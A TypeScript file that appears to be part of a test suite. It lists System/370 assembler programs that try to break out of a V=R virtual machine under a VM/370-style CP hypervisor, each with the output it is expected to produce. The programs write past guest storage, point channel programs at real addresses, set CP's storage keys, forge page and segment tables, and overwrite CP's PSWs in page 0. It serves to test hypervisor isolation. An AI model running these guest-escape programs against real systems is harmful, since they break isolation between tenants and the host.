/** Attacks from the V=R area. */
import { type Attack, commands, ENDED, execute, guest, stubborn } from "../programs.ts";

export const VIRTUAL_REAL: readonly Attack[] = [
  {
    name: "V=R: storing beyond its storage",
    tries: "to reach what lies behind it in real storage",
    rich: true,
    source: stubborn(
      "         L     3,=X'0003FFFC'\nSTORE    ST    3,0(,3)\n         L     4,0(,3)\n         A     3,=F'2048'\n         B     STORE",
    ),
    sees: "",
  },
  {
    name: "V=R: channel programs beyond its storage",
    tries: "to have the channel write where its own addresses are real ones",
    rich: true,
    source: stubborn(`
${execute("191", "READ")}
         L     3,READ+16
         A     3,=F'4096'
         ST    3,READ+16
         ST    3,LIST+4
         B     BEGIN
         DS    0D
READ     CCW   7,ZERO,X'60',6
         CCW   X'1A',X'1000',X'60',5
         CCW   6,X'3F000',X'E0',800
         CCW   0,LIST,X'24',8000
ZERO     DC    XL6'00'
LIST     DC    A(X'3F800'),A(X'40000')`),
    sees: "",
  },
  {
    name: "V=R: its channel programs not to be translated",
    tries: "SET NOTRANS ON, and real addresses",
    rich: true,
    source: stubborn(`${commands("SET NOTRANS ON")}
${execute("191", "WRITE")}${execute("291", "WRITE")}${execute("191", "READ")}
         B     BEGIN
         DS    0D
READ     CCW   7,ZERO,X'60',6
         CCW   6,X'50000',X'20',800
WRITE    CCW   7,ZERO,X'60',6
         CCW   X'31',ZERO,X'60',5
         CCW   8,WRITE+8,0,1
         CCW   5,X'100000',X'20',800
ZERO     DC    XL6'00'`),
    sees: "",
  },
  {
    name: "V=R: keys of all real storage",
    tries: "to set keys that are CP's",
    rich: true,
    source: stubborn(
      "         LA    2,X'F8'\n         LA    3,0\nNEXT     SSK   2,3\n         ISK   4,3\n         RRB   0(3)\n         A     3,=F'2048'\n         B     NEXT",
    ),
    sees: "",
  },
  {
    name: "V=R: storage given up, defined and cleared",
    tries: "to have others get its frames, or it theirs",
    rich: true,
    source: stubborn(`
         L     2,=X'00001000'
         L     3,=X'0003F000'
         DC    X'83230010'
${commands("UNLOCK VIRT=REAL", "IPL SHARED", "DEFINE STORAGE 512K")}
         B     BEGIN`),
    sees: "SHARED CANNOT BE LOADED INTO A V=R MACHINE",
  },
  {
    name: "V=R: shared segments in its storage",
    tries: "to have shared pages among frames that stay",
    rich: true,
    source: stubborn(`
AGAIN    LA    2,NAME
         SR    3,3
         DC    X'83230064'
         LA    2,NAME
         LA    3,4
         DC    X'83230064'
         LA    2,NAME
         LA    3,8
         DC    X'83230064'
         B     AGAIN
         DS    0D
NAME     DC    CL8'SHARED'`),
    sees: "",
  },
  {
    name: "V=R: page tables of its own that lead everywhere",
    tries: "without shadow tables, to store into every frame that there is, CP's and others'",
    rich: true,
    assisted: true,
    source: bypassing(`
         L     7,=F'4032'
         L     3,=X'000003F0'
TRY      A     3,=F'16'
         STH   3,PAGES+16
         PTLB
         STOSM MASK,4
         MVC   0(256,6),EVIL
         MVC   1024(256,6),EVIL
         MVC   2048(256,6),EVIL
         L     4,0(,6)
         STNSM MASK,X'FB'
NEXT     BCT   7,TRY`),
    sees: ENDED,
  },
  {
    name: "V=R: pages of 2 KiB that lead everywhere",
    tries: "the same, with the other format of tables",
    rich: true,
    assisted: true,
    source: bypassing(
      `
         L     7,=F'8064'
         L     3,=X'000003F8'
TRY      A     3,=F'8'
         STH   3,PAGES+32
         PTLB
         STOSM MASK,4
         MVC   0(256,6),EVIL
         MVC   1024(256,6),EVIL
         STNSM MASK,X'FB'
NEXT     BCT   7,TRY`,
      "00400CE0",
      "X'00000008001000180020002800300038'",
    ),
    sees: ENDED,
  },
  {
    name: "V=R: others' segment tables as its own",
    tries: "control registers 1 that others have, with what the lookaside buffer knows of them",
    rich: true,
    assisted: true,
    source: bypassing(`
         L     7,=F'768'
         L     3,=X'0F000400'
TRY      A     3,=F'4096'
         ST    3,CONTROLS+4
         LCTL  1,1,CONTROLS+4
         STOSM MASK,4
         MVC   0(256,6),EVIL
         STNSM MASK,X'FB'
NEXT     BCT   7,TRY
         L     3,=X'0F000400'
         L     7,=F'768'
         L     8,=A(FAILED)
         ST    8,X'6C'
         LCTL  1,1,TABLES+4
AGAIN    STOSM MASK,4
         A     3,=F'4096'
         ST    3,CONTROLS+4
         LCTL  1,1,CONTROLS+4
         MVC   0(256,6),EVIL
         STNSM MASK,X'FB'
FAILED   LCTL  1,1,TABLES+4
         BCT   7,AGAIN`),
    sees: ENDED,
  },
  {
    name: "V=R: segment and page tables that are CP's",
    tries: "tables that lie beyond its storage, and IPTE of them",
    rich: true,
    assisted: true,
    source: bypassing(`
         L     7,=F'2304'
         L     3,=X'00040000'
TRY      A     3,=F'1024'
         ST    3,SEGMENTS+4
         OI    SEGMENTS+4,X'F0'
         PTLB
         STOSM MASK,4
         L     5,=X'00010000'
         MVC   0(256,5),EVIL
         STNSM MASK,X'FB'
NEXT     BCT   7,TRY
         L     7,=F'2304'
         L     8,=A(FAILED)
         ST    8,X'6C'
         MVC   SEGMENTS+4(4),=F'1'
AGAIN    STOSM MASK,4
         IPTE  3,6
         STNSM MASK,X'FB'
FAILED   S     3,=F'1024'
         BCT   7,AGAIN`),
    sees: ENDED,
  },
  {
    name: "V=R: real page 0",
    tries: "to overwrite CP's new PSWs by a page-table entry of zeros",
    rich: true,
    assisted: true,
    source: bypassing(`
         XC    PAGES+16(2),PAGES+16
         PTLB
         STOSM MASK,4
         MVC   X'800'(256,6),EVIL
         MVC   0(256,6),EVIL
         MVC   256(240,6),EVIL
NEXT     SVC   1
         B     NEXT`),
    sees: "",
  },
  {
    name: "V=R: STBYPASS on and off while it translates",
    tries: "to be run by tables that nobody looks at any more",
    rich: true,
    assisted: true,
    source: bypassing(`
         SR    5,5
TRY      MVC   PAGES+16(2),=X'0020'
         STOSM MASK,4
         MVC   0(8,6),EVIL
${commands("SET STBYPASS 64K")}
         STOSM MASK,X'40'
         MVC   0(8,6),EVIL
         STNSM MASK,X'BF'
${commands("SET STBYPASS VR", "SET ASSIST OFF", "SET ASSIST ON")}
         LA    5,X'70'(,5)
         STH   5,PAGES+16
         PTLB
         MVC   0(8,6),EVIL
NEXT     STNSM MASK,X'FB'
${commands("SET STBYPASS OFF", "SET STBYPASS VR")}
         B     TRY`),
    sees: "",
  },
];

/** A program whose shadow tables are bypassed, in its page 1, which is where it seems to be in real storage too: register 6 leads to page 8, by its own tables; what fails goes on at NEXT, without translation. */
function bypassing(body: string, control = "00800CE0", pages = "X'00000010002000300040005000600070'"): string {
  return guest(
    `${commands("SET STBYPASS VR")}
         LA    12,1
         SLL   12,12
         BR    12
         ORG   GUEST+X'1000'
         USING GUEST+4096,12
         LCTL  0,1,TABLES
         LA    6,8
         SLL   6,12
${body}
         B     DONE
         DS    0D
TABLES   DC    X'${control}',A(SEGMENTS)
CONTROLS DC    2F'0'
EVIL     DC    256X'FF'
MASK     DC    X'00'
         ORG   GUEST+X'1900'
SEGMENTS DC    X'F0',AL3(PAGES),15X'00000001'
PAGES    DC    ${pages},24X'0008'
         ORG   GUEST+X'1B00'`,
    { mode: "00080000", first: "00080000", program: "NEXT" },
  );
}
